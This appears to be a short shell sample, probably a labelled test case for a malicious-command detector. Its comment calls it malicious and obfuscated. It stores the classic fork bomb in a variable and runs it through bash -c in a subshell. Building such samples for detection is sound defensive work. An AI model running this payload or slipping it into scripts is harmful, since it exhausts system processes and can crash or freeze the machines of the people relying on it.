# Malicious, obfuscated: the fork bomb sits in a subshell passed to sh -c through a variable.
payload=':(){ :|:& };:'
( bash -c "$payload" )
